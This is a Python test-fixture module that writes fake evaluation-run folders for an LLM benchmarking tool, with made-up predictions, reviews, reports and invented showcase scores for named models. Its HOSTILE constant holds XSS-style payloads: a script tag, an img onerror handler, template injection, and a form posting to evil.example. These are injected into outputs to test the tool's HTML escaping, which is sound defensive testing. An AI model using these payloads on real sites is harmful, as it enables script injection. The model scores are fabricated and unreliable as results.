"""Runs that look real without any model: folders with predictions, reviews and reports, as an evaluation writes them.

Questions and answers are made up here. Verdicts are laid down, not drawn, so that a test can count on them; the last
answers of a dataset are the unusual ones.
"""

from __future__ import annotations

import dataclasses
import fcntl
import os
import random
import time
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO

from llmuses.benchmarks import get_benchmark
from llmuses.evaluation.folder import RunFolder
from llmuses.evaluation.report import make_report
from llmuses.records import (
    DatasetPlan,
    DatasetState,
    ErrorKind,
    Generate,
    GenerationConfig,
    Loglikelihood,
    Message,
    Mode,
    Order,
    Prediction,
    Response,
    ResponseError,
    Review,
    Run,
    RunStatus,
    Score,
    Status,
    prediction_key,
)
from llmuses.store import JsonlStore, write_json

HOSTILE = (
    '</td></table><script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">{{constructor}} ${alert(1)} '
    "<form action=//evil.example><input name=q></form> & \u202e right to left \u0000 end"
)
"""Text that no page may take for markup."""

SUBSETS = {
    "mmlu": ("anatomy", "formal_logic", "sociology", "virology"),
    "gsm8k": ("main",),
    "general_mcq": ("own",),
    "arc": ("ARC-Easy", "ARC-Challenge"),
    "ceval": ("logic", "law"),
    "hellaswag": ("validation",),
}
CHANCE = {"mmlu": 0.25, "gsm8k": 0.0, "general_mcq": 0.25, "arc": 0.25, "ceval": 0.25, "hellaswag": 0.25}


@dataclass
class FakeDataset:
    """What became of the answers to one dataset. Whatever is not named is correct."""

    n: int = 40
    wrong: int = 0
    unparsed: int = 0
    rejected: int = 0
    failed: int = 0
    truncated: int = 0
    few_shot: int = 0
    mode: Mode | None = None
    answered: int | None = None
    """Where the run still goes on, or was interrupted: how many are answered."""
    sample_data: bool = True
    local_path: str | None = None
    sha256: str = "f" * 64
    reviewed: bool = True
    """Whether the answers are scored too: after ``--stage infer`` they are not, and there is no report."""

    def verdicts(self) -> list[str]:
        """Return the verdict of each sample, spread over the dataset; the first 3 wrong and the rest mixed."""
        odd = ["wrong"] * self.wrong + ["unparsed"] * self.unparsed + ["rejected"] * self.rejected
        odd += ["failed"] * self.failed
        verdicts = ["correct"] * (self.n - len(odd)) + odd
        random.Random(self.n).shuffle(verdicts)
        return verdicts


@dataclass
class FakeRun:
    """One run of one model."""

    model: str = "baseline:random"
    datasets: Mapping[str, FakeDataset] = field(default_factory=lambda: {"gsm8k": FakeDataset()})
    run_id: str | None = None
    spec: str | None = None
    identity: str | None = None
    started: float = 1_795_000_000.0
    demo: bool = False
    status: RunStatus | None = None
    running: bool = False
    """Whether the run goes on: this process holds its lock until the run is written again without."""
    hostile: bool = False

    def write(self, outputs: Path) -> Path:
        """Write the run's folder and return it."""
        return write_run(outputs, self)


def with_answers(fake: FakeRun, answered: int) -> FakeRun:
    """Return the same run as it stands when each dataset has so many answers."""
    datasets = {name: dataclasses.replace(each, answered=min(answered, each.n)) for name, each in fake.datasets.items()}
    return dataclasses.replace(fake, datasets=datasets)


def write_run(outputs: Path, fake: FakeRun) -> Path:
    """Write a run's folder as an evaluation would have left it, and return it. Answers that are there already stay."""
    run = _run(fake)
    folder = RunFolder(outputs / run.run_id)
    if fake.running:
        _hold(folder.path)
    for plan in run.datasets:
        dataset = fake.datasets[plan.dataset]
        _write_answers(folder.path, fake, plan, run.states[plan.dataset])
        if dataset.answered is None and dataset.reviewed:
            folder.save_report(make_report(folder, run, plan, get_benchmark(plan.dataset)))
    write_json(folder.path / "run.json", run)
    if not fake.running and (lock := _locks.pop(folder.path, None)):
        lock.close()
    return folder.path


_locks: dict[Path, IO[str]] = {}


def _hold(folder: Path) -> None:
    if folder not in _locks:
        folder.mkdir(parents=True, exist_ok=True)
        _locks[folder] = open(folder / "run.lock", "a")
        fcntl.flock(_locks[folder], fcntl.LOCK_EX | fcntl.LOCK_NB)


def _write_answers(folder: Path, fake: FakeRun, plan: DatasetPlan, state: DatasetState) -> None:
    dataset = fake.datasets[plan.dataset]
    with (
        JsonlStore(folder / "predictions" / f"{plan.dataset}.jsonl", Prediction) as predictions,
        JsonlStore(folder / "reviews" / f"{plan.dataset}.jsonl", Review) as reviews,
    ):
        there = sum(1 for _ in reviews)
        for index, verdict in enumerate(dataset.verdicts()[: dataset.answered]):
            prediction, review = _answer(fake, plan, index, verdict, index >= dataset.n - dataset.truncated)
            if index >= there:
                predictions.append(prediction)
                if dataset.reviewed:
                    reviews.append(review)
            state.answered += 1
            if not dataset.reviewed:
                continue
            state.reviewed += 1
            state.failed += review.status is Status.FAILED
            state.unparsed += review.status is Status.UNPARSED
            state.correct += next(iter(review.scores.values()), 0.0)


def grow(outputs: Path, fake: FakeRun, answered: int) -> None:
    """Write a run as it is after so many answers to each dataset, still under way; ``fake.write`` ends it."""
    write_run(outputs, dataclasses.replace(with_answers(fake, answered), running=True))


def _run(fake: FakeRun) -> Run:
    spec = fake.spec or fake.model
    run_id = fake.run_id or f"{spec.replace(':', '-').replace('/', '-')}-{'-'.join(fake.datasets)}"
    unfinished = any(dataset.answered is not None for dataset in fake.datasets.values())
    incomplete = any(dataset.failed for dataset in fake.datasets.values())
    usual = RunStatus.RUNNING if unfinished else RunStatus.INCOMPLETE if incomplete else RunStatus.DONE
    seconds = 1.5 * sum(dataset.n for dataset in fake.datasets.values())
    return Run(
        run_id=run_id,
        plan_hash="0" * 64,
        model=fake.model,
        model_spec=spec,
        model_identity=fake.identity or spec,
        model_args={},
        model_details={},
        datasets=[_plan(name, dataset) for name, dataset in fake.datasets.items()],
        limit=None,
        repeats=1,
        seed=0,
        status=fake.status or usual,
        states={name: _state(name, dataset) for name, dataset in fake.datasets.items()},
        command=f"llmuses eval --model {spec} --datasets {' '.join(fake.datasets)}",
        demo=fake.demo,
        pid=os.getpid() if fake.running else None,
        started=fake.started,
        updated=time.time(),
        finished=None if unfinished else fake.started + seconds,
        seconds=seconds,
    )


def _plan(name: str, dataset: FakeDataset) -> DatasetPlan:
    return DatasetPlan(
        dataset=name,
        mode=dataset.mode or Mode.GENERATE,
        few_shot=dataset.few_shot,
        few_shot_as="text",
        subsets=[],
        split="test",
        local_path=dataset.local_path,
        hub="modelscope",
        sample_data=dataset.sample_data,
        generation=GenerationConfig(max_tokens=256),
    )


def _state(name: str, dataset: FakeDataset) -> DatasetState:
    subsets = SUBSETS[name]
    planned = {subset: len(range(place, dataset.n, len(subsets))) for place, subset in enumerate(subsets)}
    return DatasetState(
        total=dataset.n,
        planned={subset: n for subset, n in planned.items() if n},
        sha256=dataset.sha256,
        order=Order(method="stratified", seed=0, n=dataset.n, sha256="e" * 64),
        chance=CHANCE[name],
    )


def _answer(fake: FakeRun, plan: DatasetPlan, index: int, verdict: str, truncated: bool) -> tuple[Prediction, Review]:
    subset = SUBSETS[plan.dataset][index % len(SUBSETS[plan.dataset])]
    sample_id = f"{subset}/{index // len(SUBSETS[plan.dataset])}"
    question = f"A crate holds {index + 3} jars of {index + 11} plums. How many plums is that?"
    target = "B" if plan.dataset != "gsm8k" else str((index + 3) * (index + 11))
    extracted = {"correct": target, "wrong": "C" if plan.dataset != "gsm8k" else "17"}.get(verdict)
    text = f"Let us see. The answer is {extracted}" if extracted else "I cannot say which of them it is."
    if fake.hostile:
        question, text = f"{question} {HOSTILE}", f"{HOSTILE} {text}"
        extracted = f"{extracted} {HOSTILE}" if extracted else None
    ask = (
        Loglikelihood(context=question, continuations=(" A", " B", " C", " D"))
        if plan.mode is Mode.LOGPROB
        else Generate(messages=(Message("user", question),), config=plan.generation)
    )
    key = prediction_key(ask, fake.identity or fake.model, 0)
    finish = "length" if truncated else "stop"
    error = None
    if verdict in ("failed", "rejected"):
        code = "http_500" if verdict == "failed" else "content_filter"
        error = ResponseError(kind=ErrorKind(verdict), code=code, message="the server said no")
    answered = error is None
    scored = plan.mode is Mode.LOGPROB
    response = Response(
        key=key,
        text=text if answered and not scored else None,
        scores=[Score(logprob=-1.0 - place) for place in range(4)] if answered and scored else None,
        error=error,
        finish_reason=finish if answered else None,
        latency=0.5 + index % 7 / 10,
    )
    prediction = Prediction(
        key=key,
        dataset=plan.dataset,
        sample_id=sample_id,
        subset=subset,
        model=fake.model,
        ask=ask,
        response=response,
        tstamp=fake.started + index,
    )
    status = Status.SCORED if verdict in ("correct", "wrong") else Status(verdict)
    metric = get_benchmark(plan.dataset).metrics_of(plan)[0]
    review = Review(
        key=key,
        sample_id=sample_id,
        subset=subset,
        status=status,
        extracted=extracted if answered else None,
        target=target,
        scores={metric: 1.0 if verdict == "correct" else 0.0} if status is not Status.FAILED else {},
        reason=None if status is Status.SCORED else "the reason in words",
        finish_reason=finish,
        truncated=truncated,
        tokens=24,
        prompt_tokens=80,
        latency=0.5 + index % 7 / 10,
        prompt=question[:160],
    )
    return prediction, review


def showcase(outputs: Path) -> None:
    """Write the runs that pictures and stories are made of: models of all sorts, two settings, one still running."""
    skills = {
        "Qwen3-8B": (0.77, 0.64, 0.88),
        "gemma-3-12b-it": (0.74, 0.66, 0.90),
        "internlm3-8b-instruct": (0.76, 0.62, 0.87),
        "Llama-3.1-8B-Instruct": (0.68, 0.60, 0.83),
        "granite-3.3-8b-instruct": (0.66, 0.62, 0.79),
        "Mistral-Small-3.2-24B-Instruct": (0.81, 0.70, 0.93),
        "SmolLM3-3B": (0.60, 0.54, 0.75),
        "TinyLlama-1.1B-Chat-v1.0": (0.26, 0.33, 0.03),
    }
    sizes = {"mmlu": 400, "arc": 300, "gsm8k": 250}
    for place, (model, skill) in enumerate(skills.items()):
        datasets = {}
        for (name, n), share in zip(sizes.items(), skill, strict=True):
            bad = n - round(n * share)
            unparsed = 5 if place in (1, 4) and name == "gsm8k" else 0
            datasets[name] = FakeDataset(
                n=n,
                wrong=bad - unparsed - (2 if place == 0 else 0),
                unparsed=unparsed,
                rejected=2 if place == 0 else 0,
                truncated=6 if (place, name) in {(2, "gsm8k"), (0, "arc")} else 0,
                few_shot=5 if name == "mmlu" else 0,
                sample_data=False,
            )
        FakeRun(model, datasets, spec=f"openai:{model}", started=1_795_000_000.0 + 3600 * place).write(outputs)
    for name, share in {"random": 0.25, "majority": 0.27}.items():
        datasets = {
            each: FakeDataset(
                n=n,
                wrong=n - round(n * (share if each != "gsm8k" else 0.0)),
                few_shot=5 if each == "mmlu" else 0,
                sample_data=False,
            )
            for each, n in sizes.items()
        }
        FakeRun(f"baseline:{name}", datasets, started=1_795_100_000.0, demo=True).write(outputs)
    FakeRun(
        "phi-4",
        {
            "mmlu": FakeDataset(n=400, wrong=82, few_shot=5, sample_data=False),
            "arc": FakeDataset(n=300, wrong=90, failed=12, sample_data=False),
            "gsm8k": FakeDataset(n=250, wrong=17, sample_data=False),
        },
        spec="openai:phi-4",
        started=1_795_110_000.0,
    ).write(outputs)
